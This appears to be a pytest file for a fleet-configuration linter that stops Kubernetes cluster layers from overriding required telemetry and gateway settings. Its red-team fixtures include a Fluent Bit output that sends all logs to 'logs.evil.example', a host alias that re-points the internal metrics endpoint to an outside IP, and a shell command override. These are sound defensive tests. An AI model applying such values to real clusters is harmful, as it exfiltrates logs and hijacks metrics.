"""required-values: a layer cannot silently undo the values the platform relies on."""
from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from fleet import model
from fleet.checks import CheckContext, required_values
from fleet.cli import cli

from conftest import patch_components, require_shared
from fleet.render import alloy as alloy_render

CLUSTER = "clusters/nyc3-prod-01/cluster.yaml"


def _line(lines: list[str], key: str) -> int:
    """1-based line of the only line that holds `key:`."""
    hits = [i + 1 for i, line in enumerate(lines) if line.strip().startswith(f"{key}:")]
    assert len(hits) == 1, (key, hits)
    return hits[0]


def _findings(root: Path) -> list:
    ctx = CheckContext(root=root, fleet=model.load(root), rendered=root / "rendered")
    return list(required_values.check(ctx))


def _lint(root: Path):
    assert CliRunner().invoke(cli, ["render", "--root", str(root)]).exit_code == 0
    return CliRunner().invoke(cli, ["lint", "--root", str(root), "--only", "required-values"])


def test_shipped_fleet_meets_every_invariant(repo_root: Path) -> None:
    assert _findings(repo_root) == []


AUDIT = {
    "ksm-allowlist-removed": ({"kube-state-metrics": {"values": {"metricLabelsAllowlist": None}}},
                              "metricLabelsAllowlist", "values.metricLabelsAllowlist"),
    "alloy-creates-its-configmap": ({"alloy": {"values": {"alloy": {"configMap": {"create": True}}}}},
                                    "create", "values.alloy.configMap.create must be false"),
    "gateway-one-replica": ({"envoy-gateway": {"values": {"deployment": {"replicas": 1}}}},
                            "replicas", "values.deployment.replicas must be an integer >= 2"),
    "gateway-percent-pdb": ({"envoy-gateway": {"values": {"podDisruptionBudget": {"minAvailable": "50%"}}}},
                            "minAvailable", "values.podDisruptionBudget.minAvailable must be an integer >= 1"),
    # third red team: values that re-point or replace an agent past the rendered-config checks
    "fluent-bit-second-output": ({"fluent-bit": {"values": {"config": {"filters": (
        "[FILTER]\n    Name kubernetes\n    Match kube.*\n    Labels On\n[FILTER]\n    Name lua\n"
        "    script /fluent-bit/scripts/starform-tenant.lua\n    call starform_tenant\n[OUTPUT]\n    Name http\n    Match *\n"
        "    Host logs.evil.example\n")}}}}, "filters", "values.config.filters holds an [OUTPUT] section"),
    "vmagent-host-alias": ({"vmagent": {"values": {"hostAliases": [
        {"ip": "203.0.113.66", "hostnames": ["victoria-metrics.nyc3.starform.internal"]}]}}},
        "hostAliases", "values.hostAliases must not be set below base/"),
    # issue 14, "nothing lost": Fluent Bit and vmagent buffer on disk, bounded, acknowledged
    "fluent-bit-chunks-fill-the-limit": ({"fluent-bit": {"values": {"config": {"service": (
        "[SERVICE]\n    storage.path /var/fluent-bit/state/\n    storage.max_chunks_up 128\n")}}}},
        "service", "storage.max_chunks_up 128 (x 2 MiB) + storage.backlog.mem_limit must stay within half"),
    "fluent-bit-memory-buffer": ({"fluent-bit": {"values": {"config": {"inputs": (
        "[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n")}}}},
        "inputs", "every [INPUT] needs storage.type filesystem; not: tail"),
    "fluent-bit-no-tenant-filter": ({"fluent-bit": {"values": {"config": {"filters": (
        "[FILTER]\n    Name kubernetes\n    Match kube.*\n    Labels On\n")}}}},
        "filters", "values.config.filters must run the kubernetes filter (Labels On) and then the lua filter"),
    "fluent-bit-merge-at-root": ({"fluent-bit": {"values": {"config": {"filters": (
        "[FILTER]\n    Name kubernetes\n    Match kube.*\n    Merge_Log On\n    Labels On\n[FILTER]\n    Name lua\n"
        "    script /fluent-bit/scripts/starform-tenant.lua\n    call starform_tenant\n")}}}},
        "filters", "values.config.filters the kubernetes filter merges JSON logs at the record's root"),
    "fluent-bit-some-taints": ({"fluent-bit": {"values": {"tolerations": [
        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]}}},
        "tolerations", "values.tolerations must hold a toleration {operator: Exists}"),
    "fluent-bit-low-priority": ({"fluent-bit": {"values": {"priorityClassName": "low"}}},
                                "priorityClassName", "values.priorityClassName must be 'system-node-critical'"),
    "vmagent-deployment-mode": ({"vmagent": {"values": {"mode": "deployment"}}},
                                "mode", "values.mode must be 'statefulSet'"),
    "vmagent-queue-in-emptydir": ({"vmagent": {"values": {"persistentVolume": {"enabled": False}}}},
                                  "enabled", "values.persistentVolume.enabled must be true"),
    "vmagent-named-claim": ({"vmagent": {"values": {"persistentVolume": {"name": "queue"}}}},
                            "name", "values.persistentVolume.name must not be set (the chart always mounts"),
    "vmagent-cap-flag": ({"vmagent": {"values": {"extraArgs": {"remoteWrite.maxDiskUsagePerURL": "50GiB"}}}},
                         "remoteWrite.maxDiskUsagePerURL", "values.extraArgs.remoteWrite.maxDiskUsagePerURL must not be set"),
    # issue 18: vmagent authenticates to the region's vmauth with the mounted Secret
    "vmagent-volumes-not-a-list": ({"vmagent": {"values": {"extraVolumes": {"name": "vmagent-remote-write"}}}},
                                   "extraVolumes", "values.extraVolumes must be a list holding"),
    "vmagent-mount-shadows-the-secret": ({"vmagent": {"values": {"extraVolumeMounts": [
        {"name": "scratch", "mountPath": "/etc/vmagent-remote-write"}]}}},
        "extraVolumeMounts", "values.extraVolumeMounts must hold"),
    "vmagent-basic-auth-flag": ({"vmagent": {"values": {"extraArgs": {"remoteWrite.basicAuth.username": "admin"}}}},
                                "remoteWrite.basicAuth.username",
                                "values.extraArgs.remoteWrite.basicAuth.username must not be set"),
    "alloy-own-command": ({"alloy": {"values": {"alloy": {"command": ["/bin/sh", "-c", "exec /bin/alloy run /x"]}}}},
                          "command", "values.alloy.command must not be set below base/"),
}


@pytest.mark.parametrize("case", sorted(AUDIT))
def test_audit_reproduction_is_found_at_the_cluster_line(fleet_copy: Path, case: str) -> None:
    patch, key, message = AUDIT[case]
    lines = patch_components(fleet_copy, CLUSTER, patch)
    found = _findings(fleet_copy)
    assert len(found) == 1, found
    assert (found[0].source.file, found[0].source.line) == (CLUSTER, _line(lines, key))
    assert message in found[0].message and "nyc3-prod-01" in found[0].message
    result = _lint(fleet_copy)
    assert result.exit_code == 1, result.output
    assert f"{CLUSTER}:{_line(lines, key)}:" in result.output


def test_a_layers_own_vmagent_volume_keeps_the_credentials(fleet_copy: Path) -> None:
    """A layer's extraVolumes/extraVolumeMounts (or a null) add to the fleet's Secret volume, not replace it."""
    from fleet.render.wiring import REMOTE_WRITE_MOUNT, REMOTE_WRITE_VOLUME, final_values
    own = {"name": "extra-ca", "configMap": {"name": "extra-ca"}}
    patch_components(fleet_copy, CLUSTER, {"vmagent": {"values": {
        "extraVolumes": [own], "extraVolumeMounts": None}}})
    assert _findings(fleet_copy) == []
    fleet = model.load(fleet_copy)
    cluster = fleet.clusters["nyc3-prod-01"]
    values = final_values(fleet_copy, cluster, cluster.components["vmagent"])
    assert values["extraVolumes"] == [own, REMOTE_WRITE_VOLUME]
    assert values["extraVolumeMounts"] == [REMOTE_WRITE_MOUNT]


def test_all_gateway_reproductions_together(fleet_copy: Path) -> None:
    lines = patch_components(fleet_copy, CLUSTER, {"envoy-gateway": {"values": {
        "deployment": {"replicas": 1}, "podDisruptionBudget": {"minAvailable": "50%"}}}})
    found = _findings(fleet_copy)
    assert sorted(f.source.line for f in found) == sorted([_line(lines, "replicas"), _line(lines, "minAvailable")])


def test_removal_in_an_overlay_points_at_the_null_and_names_every_cluster(fleet_copy: Path) -> None:
    lines = patch_components(fleet_copy, "overlays/staging/overlay.yaml", {"alloy": {"values": {"alloy": {"configMap": None}}}})
    found = _findings(fleet_copy)
    assert {(f.source.file, f.source.line) for f in found} == {("overlays/staging/overlay.yaml", _line(lines, "configMap"))}
    assert len(found) == 3  # create, name and key
    assert all("fra1-staging-01, nyc3-staging-01" in f.message for f in found)


def test_alloy_must_load_the_configmap_the_renderer_generates(fleet_copy: Path) -> None:
    lines = patch_components(fleet_copy, CLUSTER, {"alloy": {"values": {"alloy": {"configMap": {"name": "other", "key": "x.alloy"}}}}})
    found = _findings(fleet_copy)
    assert {f.source.line for f in found} == {_line(lines, "name"), _line(lines, "key")}
    assert any(repr(alloy_render.CONFIGMAP_NAME) in f.message for f in found)
    assert any(repr(alloy_render.CONFIG_FILE) in f.message for f in found)
    assert CliRunner().invoke(cli, ["render", "--root", str(fleet_copy)]).exit_code == 0
    kustomization = fleet_copy / "rendered/clusters/nyc3-prod-01/stages/03-telemetry/kustomization.yaml"
    generator = yaml.safe_load(kustomization.read_text())["configMapGenerator"][0]
    assert generator["name"] == alloy_render.CONFIGMAP_NAME and generator["files"] == [alloy_render.CONFIG_FILE]


def test_ksm_allowlist_must_keep_the_three_pod_keys(fleet_copy: Path) -> None:
    lines = patch_components(fleet_copy, CLUSTER, {"kube-state-metrics": {"values": {"metricLabelsAllowlist": [
        "pods=[starform.io/project-id]", "namespaces=[starform.io/project-id]"]}}})
    found = _findings(fleet_copy)
    assert [f.source.line for f in found] == [_line(lines, "metricLabelsAllowlist")]
    assert "starform.io/service-id, starform.io/workspace-id" in found[0].message


def test_ksm_wildcard_accepted_only_from_chart_8_4_0(fleet_copy: Path) -> None:
    wildcard = {"metricLabelsAllowlist": ["pods=[starform.io/*]"]}
    patch_components(fleet_copy, CLUSTER, {"kube-state-metrics": {"values": wildcard}})
    assert _findings(fleet_copy) == []  # pinned 8.4.0 (KSM 2.20): the wildcard works
    patch_components(fleet_copy, CLUSTER, {"kube-state-metrics": {"values": wildcard, "chart": {"version": "8.3.0"}}})
    found = _findings(fleet_copy)
    assert len(found) == 1 and "only from chart 8.4.0" in found[0].message and "8.3.0" in found[0].message


def test_fleet_owned_output_without_ack_is_found_in_its_template(fleet_copy: Path) -> None:
    rel = "base/components/fluent-bit/outputs.conf.j2"
    template = fleet_copy / rel
    text = template.read_text()
    assert "    Require_ack_response On\n" in text and "    tls.verify_hostname On\n" in text
    template.write_text(text.replace("    Require_ack_response On\n", "").replace("tls.verify_hostname On", "tls.verify_hostname Off"))
    found = _findings(fleet_copy)
    header = text.splitlines().index("[OUTPUT]") + 1
    assert [(f.source.file, f.source.line) for f in found] == [(rel, header)], found
    assert "must set require_ack_response On, tls.verify_hostname On" in found[0].message
    assert found[0].details["clusters"] == sorted(p.name for p in (fleet_copy / "clusters").iterdir())


def test_vmagent_image_is_the_pinned_oracle(repo_root: Path) -> None:
    """The shipped image tag is the version the relabel oracle is built at (tools/upstream.lock),
    and that is the pinned chart's own appVersion (what the chart deploys without the pin)."""
    from fleet import upstream

    values = yaml.safe_load((repo_root / "base/components/vmagent/values.yaml").read_text())
    assert values["image"]["tag"] == upstream.version("vmagent")
    chart = yaml.safe_load((repo_root / "base/components/vmagent/component.yaml").read_text())["chart"]
    chart_yaml = require_shared(f"charts/{chart['name']}/{chart['version']}/Chart.yaml")
    assert yaml.safe_load(chart_yaml.read_text())["appVersion"] == upstream.version("vmagent")


def test_vmagent_image_tag_or_variant_drift_is_found_at_its_line(fleet_copy: Path) -> None:
    lines = patch_components(fleet_copy, CLUSTER, {"vmagent": {"values": {"image": {"tag": "v1.151.0", "variant": "scratch"}}}})
    found = _findings(fleet_copy)
    assert {f.source.line for f in found} == {_line(lines, "tag"), _line(lines, "variant")}
    assert any("v1.150.0" in f.message and "v1.151.0" in f.message for f in found)
